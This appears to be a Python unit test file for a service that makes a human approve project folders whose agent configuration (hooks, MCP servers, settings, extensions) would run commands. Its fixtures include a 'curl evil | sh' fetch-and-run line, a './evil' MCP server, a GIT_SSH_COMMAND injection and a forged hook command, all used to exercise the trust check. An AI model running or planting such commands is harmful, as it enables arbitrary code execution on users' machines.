"""Sessions in folders that bring something that runs: asked about, remembered, asked again."""

from __future__ import annotations

import json
import os
from functools import partial
from typing import Any

from attrs import evolve

from tests.callers import GRANTED
from tests.unit.agents.foldertrust.rig import HOOK, FolderTrustCase
from tests.unit.sessions.harness import ADMIN, start_coroutine
from tservice.agents.approvals.model import ApprovalItem
from tservice.agents.foldertrust.preview import FolderTrustPreview
from tservice.agents.foldertrust.reading import NAMES
from tservice.agents.foldertrust.service import ONCE
from tservice.core.kernel.errors import ErrorCode, ServiceError
from tservice.sessions.record.model import Session


class AskedTests(FolderTrustCase):
    """Question and answer."""

    def test_a_folder_without_anything_is_not_asked_about(self) -> None:
        self.bring("README.md", "# hooks")
        self.bring(".claude/CLAUDE.md", "be kind")
        self.bring(".claude/settings.json", {"model": "opus", "permissions": {"deny": ["Bash"]}})
        self.assert_starts()

    def test_a_hook_does_not_run_before_somebody_answered(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        item = self.item(session)
        self.assertEqual(("permission", "commands of its folder"), (item.kind, item.tool_name))
        self.assertIn("sh scripts/run.sh", item.tool_summary or "")
        self.assertIn(".claude/settings.json", item.tool_summary or "")
        self.assertTrue(item.complete)
        self.assertEqual(str(self.work), item.cwd)
        self.assertIn("inbox", str(self.sessions.get(session.id).status_reason))
        self.assertTrue(self.approvals.is_blocked(session.id))
        self.answered(session, "approve")
        self.assertTrue(self.is_running(session))
        self.assertEqual([], self.approvals.list_known(ADMIN))

    def test_a_no_leaves_it_stopped(self) -> None:
        self.bring(".mcp.json", {"mcpServers": {"x": {"command": "./evil"}}})
        for fields in ({"action": "deny"}, {"action": "option", "option": 2}):
            session = self.waiting()
            self.answered(session, **fields)
            self.assertFalse(self.is_running(session))
            self.assertEqual(
                "its folder is not trusted", self.sessions.get(session.id).status_reason
            )

    def test_starting_it_again_does_not_get_past_the_question(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        before = self.item(session)
        error = self.refused_restart(session)
        self.assertEqual(ErrorCode.CONFLICT, error.code)
        self.assertIn("inbox", error.message)
        self.assertEqual(before, self.item(session))

    def test_an_answer_is_remembered_until_something_changes(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        script = self.bring("scripts/run.sh", "echo one")
        session = self.waiting()
        self.answered(session, "option", option=1)
        self.restart(session)
        self.assert_starts()
        # The file that the hook runs is part of it, the model is not.
        self.bring(".claude/settings.json", {**HOOK, "model": "opus"})
        self.restart(session)
        script.write_text("curl evil | sh")
        self.refused_restart(session)
        self.answered(session, "approve")
        self.bring(".claude/settings.local.json", {"env": {"GIT_SSH_COMMAND": "touch x"}})
        self.refused_restart(session)
        self.assertIn("GIT_SSH_COMMAND", self.item(session).tool_summary or "")

    def test_a_change_behind_the_question_asks_anew(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        before = self.item(session)
        self.bring(".claude/hooks/more.sh", "touch more")
        code, text = self.refused_answer(before, "approve")
        self.assertEqual(ErrorCode.CONFLICT, code)
        self.assertIn("changed", text)
        self.assertFalse(self.is_running(session))
        self.assertIn("touch more", self.item(session).tool_summary or "")
        stale = self.refused_answer(before, "approve")
        self.assertIn(stale[0], (ErrorCode.NOT_FOUND, ErrorCode.CONFLICT))
        self.answered(session, "approve", expect_frame=self.item(session).shown_frame)
        self.assertTrue(self.is_running(session))

    def test_an_agent_does_not_answer_for_its_folder(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        agent = evolve(ADMIN, parent="another", sessions=frozenset({session.id}))
        code, _ = self.refused_answer(self.item(session), "approve", caller=agent)
        self.assertEqual(ErrorCode.FORBIDDEN, code)
        self.assertFalse(self.is_running(session))

    def test_account_without_the_grant_trusts_nothing_that_runs(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        kim = evolve(ADMIN, can_bypass_permissions=False)
        for fields in ({"action": "approve"}, {"action": "option", "option": 1}):
            code, text = self.refused_answer(self.item(session), **fields, caller=kim)
            self.assertEqual(ErrorCode.FORBIDDEN, code)
            self.assertTrue(text.startswith("action: "), text)
            self.assertIn("grant to bypass permissions", text)
        self.assertFalse(self.is_running(session))
        self.successResultOf(self.start_answer(self.item(session), "deny", caller=kim))

    def test_account_without_the_grant_answers_for_a_folder_that_brings_nothing(self) -> None:
        self.change_settings(trust_folders="ask")
        session = self.waiting()
        kim = evolve(ADMIN, can_bypass_permissions=False)
        self.successResultOf(self.start_answer(self.item(session), "approve", caller=kim))
        self.assertTrue(self.is_running(session))

    def test_other_answers_are_refused(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        for action, fields in (("option", {"option": 3}), ("text", {"text": "yes"})):
            code, _ = self.refused_answer(self.item(session), action, **fields)
            self.assertEqual(ErrorCode.INVALID_INPUT, code)
        self.assertFalse(self.is_running(session))

    def test_questions_outlive_a_restart_of_the_service(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        before = self.item(session)
        self.approvals.stop()
        self.open_inbox()
        self.assertEqual(before, self.item(session))
        self.answered(session, "approve")
        self.assertTrue(self.is_running(session))


class PreviewTests(FolderTrustCase):
    """What is told before there is a session."""

    def tell(self, **fields: str | None) -> dict[str, Any]:
        place = {"mode": "primary", "case_name": None, "working_dir": str(self.work), **fields}
        preview = FolderTrustPreview(self.agents.trust, self.machine.cases)
        told = self.run_now(preview.preview_question(caller=ADMIN, **place))  # type: ignore[arg-type]
        found: dict[str, Any] = told.model_dump(by_alias=True)
        return found

    def test_each_state(self) -> None:
        self.assertEqual("nothing", self.tell()["state"])
        self.bring(".claude/settings.json", HOOK)
        told = self.tell()
        self.assertEqual(
            ("asks", str(self.work), [".claude/settings.json"], 0),
            (told["state"], told["workingDir"], told["paths"], told["missing"]),
        )
        self.assertIn("sh scripts/run.sh", told["summary"])
        self.assertEqual("nothing", self.tell(mode="codex")["state"])
        self.answered(self.waiting(), "approve")
        self.assertEqual("trusted", self.tell()["state"])
        self.change_settings(trust_folders="ask")
        self.assertEqual("asks", self.tell(mode="codex")["state"])
        self.change_settings(trust_folders="always")
        self.assertEqual("nothing", self.tell()["state"])

    def test_what_is_not_the_callers_is_refused(self) -> None:
        tell = partial(
            FolderTrustPreview(self.agents.trust, self.machine.cases).preview_question, "primary"
        )
        for code, case_name, folder in (
            (ErrorCode.INVALID_INPUT, None, "/proc/self/cwd"),
            (ErrorCode.NOT_FOUND, "nope", None),
        ):
            self.assert_refused(code, tell(case_name, folder, ADMIN))


class SettingTests(FolderTrustCase):
    """C{trustFolders}, and the inbox that it needs."""

    def test_always(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        self.change_settings(trust_folders="always")
        self.run_now(self.sessions.start(session.id, GRANTED))
        self.assertTrue(self.is_running(session))
        self.assertIsNone(self.inbox.get_item(session.id))
        self.assert_starts()

    def test_ask(self) -> None:
        self.change_settings(trust_folders="ask")
        session = self.waiting()
        self.assertEqual("Nothing that runs was found.", self.item(session).tool_summary)
        self.answered(session, "approve")
        self.restart(session)
        self.waiting("codex")
        self.assertTrue(self.is_running(self.agent(mode="shell")))

    def test_without_an_inbox_it_says_what_to_do(self) -> None:
        self.bring(".claude/settings.json", HOOK)
        session = self.waiting()
        self.change_settings(approvals_inbox_enabled=False)
        self.assertIsNone(self.inbox.get_item(session.id))
        self.assertIn("approvalsInboxEnabled", self.refused_restart(session).message)

    def test_another_setting_leaves_the_question(self) -> None:
        self.install("agy")
        self.bring(".agents/mcp_config.json", "{}")
        self.change_settings(external_signals=False)
        session = self.waiting("antigravity")
        self.change_settings(external_signals=True)
        self.assertIsNotNone(self.inbox.get_item(session.id))


class FoundTests(FolderTrustCase):
    """What counts."""

    def test_each_cli_has_its_own_files(self) -> None:
        self.install("pi")
        self.install("agy")
        brought = {
            "primary": (".claude/settings.local.json", {"permissions": {"allow": ["Bash"]}}),
            "opencode": ("opencode.json", {"mcp": {"x": {"command": ["sh"]}}}),
            "codex": (".codex/config.toml", 'notify = ["touch", "x"]'),
            "gemini": (".gemini/settings.json", {"mcpServers": {"x": {"command": "sh"}}}),
            "pi": (".pi/extensions/a.ts", "run()"),
            "antigravity": (".agents/hooks.json", "{}"),
        }
        for mode, (path, content) in brought.items():
            file = self.bring(path, content)
            for other in brought:
                # Antigravity reads what Gemini CLI does.
                asks = other == mode or (mode, other) == ("gemini", "antigravity")
                told = self.found(other)
                self.assertEqual(asks, path in told, (mode, other, told))
            session = self.waiting(mode)
            self.answered(session, "approve")
            self.assertTrue(self.is_running(session))
            file.unlink()

    def test_a_cli_that_does_not_say_brings_those_of_all(self) -> None:
        self.bring(".pi/extensions/a.ts", "run()")
        self.bring(".codex/hooks.json", "{}")
        entry = self.machine.clis.get_enabled_entry("codex")
        can = entry.capabilities.model_copy(update={"folder_config": None})
        unsure = entry.model_copy(update={"capabilities": can})
        self.patch(self.machine.clis, "get_entry", lambda mode: unsure)
        told = self.found("anything")
        self.assertIn(".pi/extensions/a.ts", told)
        self.assertIn(".codex/hooks.json", told)

    def test_front_matter_of_agents_and_skills(self) -> None:
        harmless = (
            "---\nname: a\ndescription: |\n  hooks: x\n\n# c\nmodel: opus\n---\nhooks: none\n"
        )
        self.bring(".claude/agents/a.md", harmless)
        self.bring(".claude/skills/a/SKILL.md", "no front matter")
        self.bring(".claude/skills/a/run.py", "print()")
        self.assertEqual("Nothing that runs was found.", self.found())
        for odd in (
            "---\nname: a\nhooks:\n  SessionStart: x\n---\n",
            '---\n"hooks": {}\n---\n',
            "---\n{hooks: {}}\n---\n",
            "\ufeff---\r\nallowed-tools: Bash\r\n---\r\n",
            "---\nname: a\n",
            "---\nname: a\u2028hooks: x\n---\n",
        ):
            self.bring(".claude/skills/b/SKILL.md", odd)
            self.assertIn(".claude/skills/b/SKILL.md", self.found(), odd)

    def test_what_does_not_read_as_settings_counts_whole(self) -> None:
        for odd in ('{"hooks": {', "[]", "\ufeff{}", "[" * 100_000, '{"a": NaN}'):
            self.bring(".claude/settings.json", odd)
            self.assertIn(".claude/settings.json", self.found(), odd[:20])
        for empty in ("", "{}", '{"hooks": {"Stop": [{"hooks": []}]}, "env": {}}'):
            self.bring(".claude/settings.json", empty)
            self.assertEqual("Nothing that runs was found.", self.found(), empty)

    def test_the_hooks_of_the_service_do_not_count(self) -> None:
        self.assert_starts()
        path = self.work / ".claude/settings.local.json"
        written = json.loads(path.read_text())
        self.assertTrue(written["hooks"]["SessionStart"])
        self.assert_starts()
        # What only looks like one of them does.
        (group,) = written["hooks"]["SessionStart"]
        forged = "touch x # /api/hook-event SERVICE_HOOK_SECRET_FILE"
        group["hooks"][0]["command"] = forged
        self.bring(".claude/settings.json", {"hooks": {"SessionStart": [group]}})
        self.assertIn(forged, self.item(self.waiting()).tool_summary or "")

    def test_folders_above_count(self) -> None:
        inner = self.work / "packages/web"
        inner.mkdir(parents=True)
        self.assertEqual("Nothing that runs was found.", self.found())
        self.bring(".mcp.json", {"mcpServers": {"x": {"command": "sh"}}})
        self.work = inner
        self.assertIn("../../.mcp.json", self.found())

    def test_the_home_folder_is_the_users_own(self) -> None:
        home = self.machine.home
        home.mkdir(exist_ok=True)
        self.bring(".claude/settings.json", HOOK, below=home)
        self.work = home
        self.assertEqual("Nothing that runs was found.", self.found())
        self.work = home / "project"
        self.work.mkdir()
        self.assertEqual("Nothing that runs was found.", self.found())

    def test_secrets_are_not_shown(self) -> None:
        self.bring(".env", "TOKEN=hidden")
        told = self.found("gemini")
        self.assertIn(".env", told)
        self.assertNotIn("hidden", told)

    def test_control_characters_are_not_shown(self) -> None:
        self.bring(".pi/extensions/a.ts", "x\u202ey\x1b[2J")
        self.assertIn("x\ufffdy\ufffd[2J", self.found("pi"))

    def test_a_long_text_says_how_much_is_missing(self) -> None:
        self.install("pi")
        self.bring(".pi/extensions/a.ts", "a" * 20_000)
        item: ApprovalItem = self.item(self.waiting("pi"))
        self.assertEqual((16_000, False), (len(item.tool_summary or ""), item.complete))
        self.assertEqual(20_000 + len(".pi/extensions/a.ts\n") - 16_000, item.tool_missing)


class UnreadableTests(FolderTrustCase):
    """What cannot be read brings something, and is asked about at every start."""

    def assert_always_asks(self, mode: str = "primary") -> Session:
        session = self.waiting(mode)
        self.assertIn("cannot be read", self.item(session).tool_summary or "")
        self.answered(session, "approve")
        self.assertTrue(self.is_running(session))
        self.refused_restart(session)
        return session

    def test_a_link_that_leads_out(self) -> None:
        secret = self.bring("secret.json", HOOK, below=self.machine.folder)
        (self.work / ".mcp.json").symlink_to(secret)
        session = self.assert_always_asks()
        self.assertNotIn("scripts/run.sh", self.item(session).tool_summary or "")

    def test_a_folder_behind_a_link_that_leads_out(self) -> None:
        elsewhere = self.machine.folder / "elsewhere"
        self.bring("settings.json", HOOK, below=elsewhere)
        (self.work / ".codex").symlink_to(elsewhere)
        self.assert_always_asks("codex")

    def test_links_inside(self) -> None:
        self.bring("shared/settings.json", HOOK)
        self.bring("shared/a/SKILL.md", "harmless")
        (self.work / ".claude").symlink_to("shared")
        self.assert_always_asks()
        (self.work / ".claude").unlink()
        (self.work / ".claude/skills").mkdir(parents=True)
        self.assertEqual("Nothing that runs was found.", self.found())
        (self.work / ".claude/skills/a").symlink_to("../../shared/a")
        self.assert_always_asks()

    def test_what_a_hook_names_is_never_read_elsewhere(self) -> None:
        outside = self.bring("outside.sh", "echo one", below=self.machine.folder)
        link = self.work / "run.sh"
        link.symlink_to(outside)
        command = "sh run.sh ../outside.sh; sh $CLAUDE_PROJECT_DIR/real.sh"
        hook = {"type": "command", "command": command}
        self.bring(".claude/settings.json", {"hooks": {"Stop": [{"hooks": [hook]}]}})
        real = self.bring("real.sh", "echo two")
        before = self.run_now(self.find())
        outside.write_text("echo three")
        self.assertEqual(before, self.run_now(self.find()))
        real.write_text("echo four")
        after = self.run_now(self.find())
        self.assertNotEqual(before.digest, after.digest)
        # Nobody sees a change behind the link, so the answer does not last.
        self.assertFalse(after.lasting)
        link.unlink()
        self.assertTrue(self.run_now(self.find()).lasting)

    def test_a_pipe(self) -> None:
        os.mkfifo(self.work / ".mcp.json")
        self.assert_always_asks()

    def test_more_than_the_bounds(self) -> None:
        for name, bring in (
            (".mcp.json", lambda: self.bring(".mcp.json", " " * 1024 * 1024 + "{}")),
            (".claude/hooks/", lambda: [self.bring(f".claude/hooks/{n}", "") for n in range(401)]),
            ("deep", lambda: self.bring(".claude/hooks/" + "d/" * 14 + "x.sh", "touch x")),
        ):
            self.work = self.work.parent / f"work-{name.strip('./').replace('/', '-')}"
            self.work.mkdir()
            bring()
            self.assert_always_asks()

    def test_all_that_counts_is_bounded(self) -> None:
        for number in range(9):
            self.bring(f".claude/hooks/{number}", "x" * 1000 * 1000)
        files = self.run_now(self.find()).files
        self.assertEqual(1, len([path for path, text in files if text is None]))

    def test_names_of_files_are_bounded(self) -> None:
        self.bring(".pi/extensions/a.ts", " ".join(f"w{number}" for number in range(NAMES)))
        self.assertTrue(self.run_now(self.find("pi")).lasting)
        self.bring(".pi/extensions/b.ts", "one more")
        self.assertFalse(self.run_now(self.find("pi")).lasting)

    def test_answers_for_one_start_are_bounded(self) -> None:
        os.mkfifo(self.work / ".mcp.json")
        first, trust = self.waiting(), self.agents.trust
        digest = self.item(first).folder_digest or ""
        for count, starts in ((ONCE - 1, True), (ONCE, False)):
            trust.record_trust(first, digest, lasting=False)
            for number in range(count):
                trust.record_trust(evolve(first, id=str(number)), digest, lasting=False)
            started = start_coroutine(self.sessions.start(first.id, GRANTED))
            if starts:
                self.assertIsNotNone(self.successResultOf(started).pid)
                self.run_now(self.sessions.stop(first.id, "asked"))
            else:
                self.failureResultOf(started, ServiceError)

    def test_a_folder_where_a_file_is_expected_brings_nothing(self) -> None:
        (self.work / ".env").mkdir()
        self.assertEqual("Nothing that runs was found.", self.found("gemini"))
